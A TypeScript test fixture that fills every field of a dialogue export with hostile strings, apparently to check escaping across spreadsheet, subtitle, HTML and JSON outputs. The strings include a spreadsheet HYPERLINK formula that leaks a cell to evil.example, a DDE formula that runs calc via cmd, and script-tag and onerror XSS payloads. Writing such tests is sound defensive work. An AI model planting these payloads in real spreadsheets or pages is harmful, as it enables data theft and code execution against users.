/** A dialogue whose every text field is hostile: formulas, HTML, Markdown, WebVTT syntax, RTL, emoji, 10 KB. */
import type { ExportInput, ExportIntervention } from '../../../../shared/export';
import { TABLE_NAMES } from './dialogue.fixture';

const TEN_KB = Array.from({ length: 200 }, (_, k) => `${k}: <b>&amp;</b> "quoted", 'single' | pipe *star* _u_ `).join('').slice(0, 10_240);

export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+SUM(1,2)',
  '-2+3*cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd',
  '\tTAB first',
  '\rCR first',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '# Heading',
  'see https://evil.example/x and www.evil.example',
  '00:00:01.000 --> 00:00:02.000',
  'before\n\nafter a blank line\r\n\r\n--> end',
  'ممثل مصر',
  '🇺🇳🙂',
  TEN_KB,
];

const at = (k: number): string => HOSTILE_TEXTS[k % HOSTILE_TEXTS.length] ?? '';

/** One intervention per hostile text, that text in every field (and its neighbours in the lists). */
export const HOSTILE_INTERVENTIONS: ExportIntervention[] = HOSTILE_TEXTS.map((text, k) => ({
  id: `hostile-${k}`,
  position: k + 1,
  speaker: { name: text, code: k % 2 === 0 ? text : null, kind: k % 3 === 0 ? 'state' : null },
  onBehalfOf: text,
  // Every third one is untimed: VTT skips it, JSON-LD targets the dialogue.
  start: k % 3 === 2 ? null : k * 60.1234,
  end: k % 3 === 2 ? null : k * 60.1234 + 42.0005,
  status: k % 4 === 0 ? 'draft' : 'approved',
  summary: k % 5 === 4 ? '' : text,
  notes: [text, at(k + 1)],
  tags: [text, at(k + 2)],
  quotes: [
    { text, source: null },
    { text: at(k + 3), source: { url: 'https://www.unodc.org/page?x=1&y=<2>', exact: text, prefix: at(k + 4), suffix: at(k + 5), start: 10, end: 20 } },
  ],
}));

export const hostileInput = (webcastUrl: string | null = 'https://webtv.un.org/en/asset/k1o/k1o7stmi6p'): ExportInput => ({
  dialogue: {
    id: 'hostile-dialogue',
    title: `${at(6)} ${at(8)} ${at(12)}`,
    theme: at(0),
    date: at(9),
    venue: `${at(7)}\n${at(10)}`,
    webcastUrl,
    recordingStartedAt: null,
  },
  interventions: HOSTILE_INTERVENTIONS,
  include: 'all',
  generatedAt: '2026-06-04T09:30:00.000Z',
  speakerNames: TABLE_NAMES,
});
